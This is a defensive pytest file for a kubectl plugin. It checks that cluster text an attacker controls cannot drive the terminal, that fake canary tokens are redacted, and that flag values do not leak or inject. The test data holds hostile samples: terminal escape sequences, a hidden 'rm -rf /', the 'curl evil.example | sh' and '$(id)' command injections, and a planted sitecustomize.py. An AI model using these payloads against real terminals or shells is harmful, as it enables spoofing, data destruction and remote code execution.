"""The issue-26 attack pass, kept as tests: text an attacker controls (a pod's message, an event, a record, a
job's log) and values pasted into flags. Counted in the summary: `attacks tried / held`, `hostile text shown /
inert`, `tokens behind sequences / redacted`.

The CLI runs in this process (inprocess.InProcess) against a private state directory; kubectl is
tests/reliability/hostile-kubectl, a real process that answers from files the attacker wrote. Nothing here
needs the local cluster."""

from __future__ import annotations

import json
import os
import re
import subprocess
import uuid
from collections.abc import Iterator
from pathlib import Path
from typing import Any

import pytest
from support.fake_kubectl import fixture_json

from .helpers import HERE, REPO
from .inprocess import InProcess
from .stats import STATS

SERVER = "https://127.0.0.1:9"  # the InProcess kubeconfig's
CANARY = f"Tr0ub4dor-CanaryPw-{uuid.uuid4().hex[:6]}"  # a password shaped like a name, unique per run
TAG = uuid.uuid4().hex[:8]
# Each is what a pod message, an event or a log line held in the attack pass.
HOSTILE = {
    "window title": "boom \x1b]0;pwned\x07 done",
    "hidden hyperlink": "see \x1b]8;;https://evil.example/\x1b\\docs.nvidia.com\x1b]8;;\x1b\\ for help",
    "erase the line above, fake a result": "OOM\x1b[1A\x1b[2K\rkubectl-tao: job COMPLETE",
    "invisible text": "\x1b[8mrm -rf / # hidden\x1b[0m visible",
    "C1 CSI": "red \x9b31malert\x9b0m",
    "bidi override": "weights\u202egnp.exe",
    "bidi isolate": "a\u2066b\u2069c",
    "DCS string": "x\x1bP1$r0m\x1b\\y",
    "NUL and BEL": "a\x00b\x07c",
}
ACTS_ON_TERMINAL = re.compile("[\x00-\x08\x0b-\x1f\x7f-\x9f\u202a-\u202e\u2066-\u2069]")
# Tokens behind what a terminal hides (fake; each unique per run).
HIDDEN_TOKENS = {
    "hf": (f"hf_FakeCanary{TAG}abcdefghijklmnopqrst", "\x1b[32m{}\x1b[0m"),
    "github": (f"ghp_FakeCanary{TAG}abcdefghijklmnopqrstuv", "\x1b[1;31m{}"),
    "ngc": (f"nvapi-FakeCanary{TAG}abcdefghijklmnopqrs", "\x9b33m{}\x9b0m"),
    "aws": ("AKIA" + TAG.upper().replace("A", "B")[:8] + "FAKECANA", "\x1b]0;t\x07{}"),
    "jwt": (f"eyJhbGciOiJIUzI1NiJ9.eyJzdWIiOiJ{TAG}In0.FakeCanarySig0123456789", "\u200b{}\u200b"),
    "json-escaped": (f"hf_FakeCanaryJson{TAG}abcdefghijklmno", '{{"msg": "\\u001b[32m{}\\u001b[0m"}}'),
}


@pytest.fixture()
def harness(tmp_path: Path) -> Iterator[InProcess]:
    answers = tmp_path / "answers"
    answers.mkdir()
    h = InProcess(tmp_path)
    h.env.update(KUBECTL_TAO_KUBECTL=str(HERE / "hostile-kubectl"), HOSTILE_KUBECTL_DIR=str(answers))
    with h.active():
        yield h


def _attack(held: bool, what: str) -> None:
    STATS.attack(held)
    assert held, f"attack not held: {what}"


def _answers(h: InProcess) -> Path:
    return Path(h.env["HOSTILE_KUBECTL_DIR"])


def _launched(h: InProcess, name: str, **extra: Any) -> str:
    from kubectl_tao.store.records import RecordStore

    store = RecordStore(str(h.state))
    record = store.open(platform="kubernetes", image="nvcr.io/nvidia/tao/tao-toolkit:6.0.0-pyt", network_arch="dino",
                        action="train", storage_tier="A", results_root="/workspace/results")
    store.mark(record.id, "RUNNING", backend_ref=f"tao-jobs/{name}")
    store.update_extra(record.id, namespace="tao-jobs", job_name=name, api_server=SERVER, **extra)
    return record.id


def _serve(h: InProcess, scenario: str, message: str, logs: str = "") -> str:
    """The recorded objects of SCENARIO with every kubelet and event message replaced by MESSAGE."""
    job, pods, events = (fixture_json(f"{scenario}.{part}.json") for part in ("job", "pods", "events"))
    for pod in pods["items"]:
        for status in pod["status"].get("containerStatuses") or []:
            for state in status.get("state", {}).values():
                state["message"] = message
    for event in events["items"]:
        event["message"] = message
    answers = _answers(h)
    (answers / "objects.json").write_text(json.dumps({"kind": "List", "items": [job, *pods["items"]]}))
    (answers / "events.json").write_text(json.dumps(events))
    (answers / "logs.txt").write_text(logs)
    return str(job["metadata"]["name"])


def _inert(text: str) -> bool:
    return ACTS_ON_TERMINAL.search(text) is None


@pytest.mark.parametrize("what", sorted(HOSTILE))
def test_hostile_cluster_text_never_drives_the_terminal(harness: InProcess, what: str) -> None:
    text = HOSTILE[what]
    name = _serve(harness, "imagepull", text, logs="".join(f"[pod/x-abcde/tao] {line}\n" for line in HOSTILE.values()))
    record_id = _launched(harness, name)
    harness.run(["record", "mark", record_id, "--state", "RUNNING", "--message", text])
    for argv in (["status", record_id], ["explain", record_id], ["list"], ["logs", record_id],
                 ["status", record_id, "-o", "json"], ["explain", record_id, "-o", "yaml"]):
        code, out, err = harness.run(argv)
        held = code in (0, 1) and _inert(out + err) and "Traceback" not in err
        STATS.terminal(held)
        _attack(held, f"{what}: {' '.join(argv[:1] + argv[2:])}")


@pytest.mark.parametrize("kind", sorted(HIDDEN_TOKENS))
def test_a_token_behind_a_sequence_is_redacted_live_and_after_the_job_is_gone(harness: InProcess, kind: str) -> None:
    token, form = HIDDEN_TOKENS[kind]
    line = f"step 1 auth {form.format(token)} ok"
    name = _serve(harness, "exit-code", "boom", logs=f"[pod/{fixture_pod('exit-code')}/tao] {line}\n")
    record_id = _launched(harness, name)
    code, live, _ = harness.run(["logs", record_id])
    redacted = code == 0 and token not in live and "***REDACTED***" in live
    STATS.hidden_token(redacted)
    _attack(redacted, f"{kind}: live logs")

    harness.run(["status", record_id])  # the failed job's log tail is captured into the record
    stored = (harness.state / "jobs" / ".kubectl-tao" / f"{record_id}.json").read_text(encoding="utf-8")
    _answers(harness).joinpath("objects.json").write_text('{"kind": "List", "items": []}')  # the Job is gone
    code, captured, _ = harness.run(["logs", record_id])
    redacted = code == 0 and token not in captured + stored and captured == live
    STATS.hidden_token(redacted)
    _attack(redacted, f"{kind}: the captured tail, and the record it is kept in")


def fixture_pod(scenario: str) -> str:
    return str(fixture_json(f"{scenario}.pods.json")["items"][0]["metadata"]["name"])


def test_a_400_kb_log_line_is_captured_and_redacted(harness: InProcess) -> None:
    token = HIDDEN_TOKENS["hf"][0]
    line = "curl -H a: password: x " * (400_000 // 23) + token
    name = _serve(harness, "exit-code", "boom", logs=f"[pod/{fixture_pod('exit-code')}/tao] {line}\n")
    record_id = _launched(harness, name)
    code, out, _ = harness.run(["status", record_id])
    stored = (harness.state / "jobs" / ".kubectl-tao" / f"{record_id}.json").read_text(encoding="utf-8")
    _attack(code == 0 and "ERROR" in out and token not in stored, "a 400 KB line in the captured log tail")


def test_a_chatty_ranks_error_past_the_byte_limit_is_named_and_its_facts_hold_no_credential(
    harness: InProcess,
) -> None:
    """hostile-kubectl answers --tail, --limit-bytes and --prefix as the kubelet and kubectl do (logs/POD.log):
    400 NCCL INFO lines fill the first read's 64 KiB, the failing line names a path holding a URL password."""
    from support.fake_kubectl import nccl_info

    name = _serve(harness, "exit-code", "boom")
    logs = _answers(harness) / "logs"
    logs.mkdir()
    path = f"https://bob:{CANARY}@data.example.com/train.json"
    (logs / f"{fixture_pod('exit-code')}.log").write_text(
        nccl_info("node-0", 400) + f"FileNotFoundError: [Errno 2] No such file or directory: '{path}'\n"
    )
    record_id = _launched(harness, name)
    shown = []
    for argv in (["explain", record_id], ["explain", record_id, "-o", "json"], ["explain", record_id, "-o", "yaml"],
                 ["status", record_id, "-o", "json"], ["logs", record_id, "--errors"]):
        code, out, err = harness.run(argv)
        _attack(code in (0, 1) and CANARY not in out + err, f"chatty rank: {' '.join(argv[:1] + argv[2:])}")
        shown.append(out)
    _attack("ERROR - MissingFile" in shown[0] and "path: https://bob:***REDACTED***@" in shown[0],
            "chatty rank: the cause and its path named, the password redacted")


# ------------------------------------------------------------------ values pasted into flags


def _pasted(files: Path) -> list[list[str]]:
    env_file = files / "pasted.env"
    env_file.write_text(f"A=1\n{CANARY}=x\n", encoding="utf-8")
    submit = ["submit", "--image=busybox:1.36", "--command=true", "--gpus=0", "--pvc=tao-data"]
    return [
        [*submit, "--env", CANARY],
        [*submit, "--env", "HOME", "--env", CANARY.upper()],
        [*submit, "--env-file", str(env_file)],
        [*submit, "--nccl-env", CANARY],
        [*submit, "--nccl-env", f"NCCL_DEBUG={CANARY}#"],
        [*submit, "--annotation", CANARY],
        [*submit, "--label", f"team={CANARY}#"],
        [*submit, "--node-selector", f"pool={CANARY}#"],
        [*submit, "--toleration", f"{CANARY}#"],
        [*submit, "--env-secret", CANARY],
        [*submit, "--image-pull-secret", CANARY],
        [*submit, "--queue", CANARY],
        [*submit, "--image", f"{CANARY} x"],
        ["secret", "image-pull", "ngc", "--from-env", CANARY],
        ["secret", "image-pull", "ngc", "--username", f"user:{CANARY}"],
        ["fit", "--gpus", "1", "--node-selector", CANARY],
    ]


def test_a_value_pasted_into_a_flag_is_named_by_position_never_echoed(harness: InProcess) -> None:
    for argv in _pasted(harness.files):
        err = harness.reject(argv)
        _attack(CANARY not in err and CANARY.upper() not in err, f"echo: {argv[-2:]}")


@pytest.mark.parametrize(
    "argv",
    [
        ["--shm-size", "99999999999999999999Ei"],
        ["--shm-size", "65Ti"],
        ["--nodes", "2", "--launcher", "torchrun", "--command", "train.py; curl evil.example | sh"],
        ["--nodes", "2", "--launcher", "torchrun", "--command", "train.py --out $(id)"],
    ],
)
def test_out_of_bounds_sizes_and_shell_syntax_for_torchrun_are_refused(harness: InProcess, argv: list[str]) -> None:
    err = harness.reject(["submit", "--image=busybox:1.36", "--gpus=0", "--pvc=tao-data",
                          *(["--command=true"] if "--command" not in argv else []), *argv])
    _attack(err.startswith("error: "), f"refused: {argv}")


def test_a_torchrun_comment_is_no_argument(harness: InProcess) -> None:
    code, out, _ = harness.run(["render", "--image", "busybox:1.36", "--gpus", "0", "--pvc", "shared", "--nodes", "2",
                                "--launcher", "torchrun", "--command", "train.py --epochs 3 # note", "-o", "json"])
    items = json.loads(out)["items"] if code == 0 else []
    argv = next((d["spec"]["template"]["spec"]["containers"][0]["args"] for d in items if d.get("kind") == "Job"), [])
    _attack(code == 0 and argv[-3:] == ["train.py", "--epochs", "3"] and "#" not in argv, "torchrun # comment")


# ------------------------------------------------------------------ the user's Python settings


def test_a_sitecustomize_on_pythonpath_never_runs(tmp_path: Path) -> None:
    planted, mark = tmp_path / "planted", tmp_path / "ran"
    planted.mkdir()
    (planted / "sitecustomize.py").write_text(f"open({str(mark)!r}, 'w').write('ran')\n", encoding="utf-8")
    env = {**os.environ, "PYTHONPATH": str(planted), "TAO_STATE_DIR": str(tmp_path / "state"), "HOME": str(tmp_path)}
    for entry in ("kubectl-tao", "scripts/redact_secrets", "scripts/tao_job_record", "scripts/render_job"):
        subprocess.run([str(REPO / entry), "--help"], env=env, capture_output=True, check=False, timeout=120)
        _attack(not mark.exists(), f"{entry}: PYTHONPATH's sitecustomize.py")
